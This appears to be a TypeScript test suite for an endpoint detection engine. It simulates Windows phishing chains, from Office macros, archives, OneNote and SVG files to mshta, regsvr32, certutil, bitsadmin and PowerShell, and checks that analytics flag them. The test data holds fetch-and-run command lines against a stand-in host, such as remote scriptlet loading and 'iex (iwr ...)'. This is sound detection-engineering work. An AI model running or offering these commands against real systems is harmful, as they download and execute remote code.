import { describe, expect, it } from 'vitest';
import type { Scenario, ScenarioOptions, StoryProcess } from '../../events/story';
import {
  CMD,
  callsOut,
  EDGE,
  findingsOf,
  homeOf,
  MSHTA,
  mailCacheOf,
  OUTLOOK,
  POWERSHELL,
  pointsOf,
  RUNDLL32,
  SEVEN_ZIP,
  SYSTEM32,
  statesOf,
  storyOf,
  WORD,
  WSCRIPT,
} from '../testStory';

const EXCEL = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE';
const ONENOTE = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTE.EXE';
const GUIDS = '{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}';

type Told = { readonly analytic: string; readonly tell: (s: Scenario) => void };

/** Ways to run mshta that public test plans describe, each with a child. */
const MSHTA_LINES: readonly (readonly [name: string, line: string, parent: string])[] = [
  [
    'JScript that fetches a scriptlet',
    'mshta.exe javascript:a=(GetObject("script:https://files.example/T.sct")).Exec();close();',
    CMD,
  ],
  [
    'VBScript that starts PowerShell',
    'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell"":close")',
    CMD,
  ],
  ['a remote HTA', 'mshta.exe https://files.example/T1218.005.hta', POWERSHELL],
  ['an HTA over the machine’s own share', `${MSHTA} \\\\127.0.0.1\\c$\\Users\\Public\\Test.hta`, POWERSHELL],
  ['a double click', `"${MSHTA}" "C:\\Users\\Public\\Test.hta" ${GUIDS}`, 'explorer'],
  ['an HTA on another machine’s share', `${MSHTA} \\\\10.1.2.3\\pub\\Test.hta`, CMD],
  [
    'an about: page',
    `${MSHTA} "about:<hta:application><script language='VBScript'>CreateObject(""WScript.Shell"").Run ""cmd""</script>"`,
    CMD,
  ],
  [
    'a JScript protocol handler',
    `${MSHTA} "javascript:var s=new ActiveXObject('WScript.Shell');s.Run('cmd');window.close()"`,
    CMD,
  ],
  ['an HTA behind another extension', `${MSHTA} C:\\Users\\Public\\picture.jpg`, CMD],
  ['an HTA with a stream of its own', `${MSHTA} C:\\Users\\Public\\note.txt:run.hta`, CMD],
  ['a WebDAV path', `${MSHTA} \\\\files.example@SSL\\DavWWWRoot\\T.hta`, CMD],
];

const mshtaTold =
  (line: string, parent: string) =>
  (s: Scenario): void => {
    const from = parent === 'explorer' ? s.explorer : s.starts(parent);
    const mshta = s.starts(MSHTA, { parent: from, commandLine: line });
    s.after('900ms');
    s.starts(`${SYSTEM32}\\calc.exe`, { parent: mshta });
  };

describe('mshta in the ways test plans run it', () => {
  it.each(MSHTA_LINES)('is complete: %s', (_name, line, parent) => {
    for (const options of SOURCES) {
      const { s } = storyOf(options);
      mshtaTold(line, parent)(s);
      expect(verdictsOf(s, 'AN1397'), JSON.stringify(options)).toEqual(['complete']);
    }
  });

  it.each([
    'javascript:"\\..\\mshtml,RunHTMLApplication ";eval("x")',
    'javascript:"\\..\\mshtml.dll,#135 ";document.write()',
  ])('is complete without mshta: rundll32 %s', (args) => {
    const { s } = storyOf();
    const rundll = s.starts(RUNDLL32, { parent: s.starts(CMD), commandLine: `rundll32.exe ${args}` });
    s.starts(CMD, { parent: rundll });
    expect(verdictsOf(s, 'AN1397')).toEqual(['complete']);
  });

  it('is complete when the parent’s start is not in the recording', () => {
    const { s } = storyOf();
    s.loses('process_start');
    const word = s.starts(WORD);
    s.regains('process_start');
    const mshta = s.starts(MSHTA, { parent: word, commandLine: `${MSHTA} https://files.example/a` });
    s.starts(POWERSHELL, { parent: mshta });
    const [finding] = findingsOf(s.events(), 'AN1397');
    expect(finding?.status).toBe('complete');
    expect(pointsOf(finding ?? never())).toMatchObject({ L1: 20 });
  });
});

/** A document or archive that arrived by mail or browser, and is opened. */
const attached = (s: Scenario, name: string, application = WORD): StoryProcess => {
  const outlook = s.starts(OUTLOOK);
  const path = `${mailCacheOf(s)}\\${name}`;
  s.writes(outlook, path);
  s.marks(outlook, path);
  s.after('9s');
  const app = s.starts(application, { parent: outlook, commandLine: `"${application}" "${path}"` });
  s.after('7s');
  return app;
};

const saved = (s: Scenario, name: string): string => {
  const edge = s.starts(EDGE);
  const path = `${homeOf(s)}\\Downloads\\${name}`;
  s.writes(edge, `${path}.crdownload`);
  s.writes(edge, path);
  s.marks(edge, path, { hostUrl: `https://files.example/${name}` });
  s.after('40s');
  return path;
};

/** From a document or link to a call out, in ways that public reports and test plans describe. */
const USER_CHAINS: readonly (readonly [name: string, told: Told['tell']])[] = [
  [
    'a macro, cmd, PowerShell, network',
    (s) => {
      const word = attached(s, 'Offer.docm');
      const shell = s.starts(CMD, {
        parent: word,
        commandLine: 'cmd.exe /c powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A',
      });
      const inner = s.starts(POWERSHELL, {
        parent: shell,
        commandLine: 'powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A',
      });
      callsOut(s, inner);
    },
  ],
  [
    'a macro that registers a remote scriptlet',
    (s) => {
      const excel = attached(s, 'Order.xlsm', EXCEL);
      const tool = s.starts(`${SYSTEM32}\\regsvr32.exe`, {
        parent: excel,
        commandLine: 'regsvr32 /s /n /u /i:https://files.example/a.sct scrobj.dll',
      });
      callsOut(s, tool);
    },
  ],
  [
    'a macro that has certutil fetch a program',
    (s) => {
      const word = attached(s, 'Offer.doc');
      const tool = s.starts(`${SYSTEM32}\\certutil.exe`, {
        parent: word,
        commandLine: 'certutil -urlcache -f https://files.example/a.txt a.exe',
      });
      s.resolves(tool, 'files.example', ['198.51.100.7']);
      s.connects(tool, '198.51.100.7', 443);
    },
  ],
  [
    'a notebook with an HTA behind a picture',
    (s) => {
      const onenote = attached(s, 'Invoice.one', ONENOTE);
      const hta = `${homeOf(s)}\\AppData\\Local\\Temp\\OneNote\\16.0\\Exported\\{9A}\\NT\\0\\open.hta`;
      s.writes(onenote, hta);
      const mshta = s.starts(MSHTA, { parent: onenote, commandLine: `"${MSHTA}" "${hta}" ${GUIDS}` });
      const shell = s.starts(POWERSHELL, {
        parent: mshta,
        commandLine: 'powershell iwr https://files.example/a',
      });
      callsOut(s, shell);
    },
  ],
  [
    'a macro that drops a program and runs it',
    (s) => {
      const word = attached(s, 'Offer.docm');
      const program = `${homeOf(s)}\\AppData\\Roaming\\winupd.exe`;
      s.writes(word, program);
      callsOut(s, s.starts(program, { parent: word }));
    },
  ],
  [
    'a script in a ZIP, opened by Explorer',
    (s) => {
      saved(s, 'Invoice_8812.zip');
      const script = `${homeOf(s)}\\AppData\\Local\\Temp\\Temp1_Invoice_8812.zip\\Invoice.js`;
      s.writes(s.explorer, script);
      callsOut(s, s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${script}"` }));
    },
  ],
  [
    'a script in an archive, run out of the archiver',
    (s) => {
      const zip = saved(s, 'papers.rar');
      const rar = 'C:\\Program Files\\WinRAR\\WinRAR.exe';
      const archiver = s.starts(rar, { commandLine: `"${rar}" "${zip}"` });
      const script = `${homeOf(s)}\\AppData\\Local\\Temp\\Rar$DIa91.22\\papers.vbs`;
      s.writes(archiver, script);
      callsOut(s, s.starts(WSCRIPT, { parent: archiver, commandLine: `"${WSCRIPT}" "${script}"` }));
    },
  ],
  [
    'a program saved by the browser and double-clicked',
    (s) => {
      callsOut(s, s.starts(saved(s, 'viewer.exe')));
    },
  ],
  [
    'a script saved by the browser and opened in the browser’s own list',
    (s) => {
      const edge = s.starts(EDGE);
      const script = `${homeOf(s)}\\Downloads\\statement.js`;
      s.writes(edge, script);
      s.marks(edge, script);
      callsOut(s, s.starts(WSCRIPT, { parent: edge, commandLine: `"${WSCRIPT}" "${script}"` }));
    },
  ],
  [
    'a program that Explorer unpacked into a folder, without a mark of its own',
    (s) => {
      const zip = saved(s, 'payroll.zip');
      const program = `${zip.slice(0, -4)}\\payroll.exe`;
      s.writes(s.explorer, program);
      s.after('20s');
      callsOut(s, s.starts(program));
    },
  ],
  [
    'a shortcut saved by the browser, whose target does not name it',
    (s) => {
      saved(s, 'statement.lnk');
      callsOut(
        s,
        s.starts(POWERSHELL, { commandLine: `"${POWERSHELL}" -w hidden iex (iwr https://files.example/a)` }),
      );
    },
  ],
  [
    'an attachment whose macro reaches a share on the Internet',
    (s) => {
      const word = attached(s, 'Offer.docm');
      s.starts(RUNDLL32, { parent: word, commandLine: 'rundll32.exe \\\\files.example@80\\pub\\a.dll,Run' });
    },
  ],
  [
    'a macro that hands the download to BITS',
    (s) => {
      const word = attached(s, 'Offer.docm');
      s.starts(`${SYSTEM32}\\bitsadmin.exe`, {
        parent: word,
        commandLine: `bitsadmin /transfer u /download https://files.example/a.exe ${homeOf(s)}\\AppData\\Local\\Temp\\a.exe`,
      });
      s.after('3s');
      s.tells('bits_transfer', undefined, { 'url.full': 'https://files.example/a.exe' });
    },
  ],
];

describe('from a document or link to a call out', () => {
  it.each(USER_CHAINS)('is complete: %s', (_name, tell) => {
    const { s } = storyOf();
    tell(s);
    expect(verdictsOf(s, 'AN1314')).toContain('complete');
  });

  it('is partial, and says what is blind, where only 4688 is recorded', () => {
    const { s } = storyOf({ source: 'security' });
    const word = s.starts(WORD, { commandLine: `"${WORD}" "${homeOf(s)}\\Downloads\\a.docm"` });
    const shell = s.starts(CMD, {
      parent: word,
      commandLine: 'cmd.exe /c powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A',
    });
    s.starts(POWERSHELL, { parent: shell });
    const archiver = s.starts(SEVEN_ZIP, { commandLine: `"${SEVEN_ZIP}" a.zip` });
    s.starts(WSCRIPT, {
      parent: archiver,
      commandLine: `${WSCRIPT} ${homeOf(s)}\\AppData\\Local\\Temp\\7zO1\\a.js`,
    });
    const findings = findingsOf(s.events(), 'AN1314');
    expect(findings.map(({ status }) => status)).toEqual(['partial', 'partial']);
    for (const finding of findings) expect(statesOf(finding).file_arrival).toBe('blind');
  });

  it('does not hang on an Office name that lies where users can write', () => {
    const { s } = storyOf();
    const fake = s.starts(`${homeOf(s)}\\AppData\\Roaming\\WINWORD.exe`);
    callsOut(s, s.starts(CMD, { parent: fake }));
    expect(findingsOf(s.events(), 'AN1314').map(({ headline }) => headline)).toEqual([]);
  });

  it('keeps a marked program run at a prompt as partial: nothing shows an application that led to it', () => {
    const { s } = storyOf();
    const program = saved(s, 'tool.exe');
    const prompt = s.starts(CMD);
    callsOut(s, s.starts(program, { parent: prompt }));
    expect(verdictsOf(s, 'AN1314')).toEqual(['partial']);
  });
});

describe('an SVG whose name has blanks', () => {
  it.each([
    ['opened by Chromium, which quotes nothing', (svg: string) => `"${EDGE}" --single-argument ${svg}`],
    [
      'opened as an address',
      (svg: string) => `"${EDGE}" "file:///${svg.replaceAll('\\', '/').replaceAll(' ', '%20')}"`,
    ],
  ])('is one complete chain: %s', (_name, line) => {
    const { s } = storyOf();
    const svg = saved(s, 'Invoice v1.2 of May.svg');
    const edge = s.starts(EDGE, { commandLine: line(svg) });
    s.after('5s');
    const zip = `${homeOf(s)}\\Downloads\\Invoice of May.zip`;
    s.writes(edge, zip);
    s.marks(edge, zip, { hostUrl: 'about:internet' });
    s.after('2m');
    const script = `${homeOf(s)}\\Downloads\\Invoice of May\\Invoice.js`;
    s.writes(s.explorer, script);
    s.after('5s');
    callsOut(s, s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${script}"` }));
    expect(verdictsOf(s, 'AN1407')).toEqual(['complete']);
    expect(verdictsOf(s, 'AN1314')).toEqual(['complete']);
  });
});

/** The same hosts with less to see: no original file names, no integrity, only the Security log. */
const SOURCES: readonly ScenarioOptions[] = [
  {},
  { without: ['process.pe.original_file_name', 'process.integrity_level'] },
  { source: 'security' },
  { source: 'both' },
];

function verdictsOf(s: Scenario, analytic: string): readonly string[] {
  return findingsOf(s.events(), analytic).map(({ status }) => status);
}

function never(): never {
  throw new Error('the story lacks what the test needs');
}
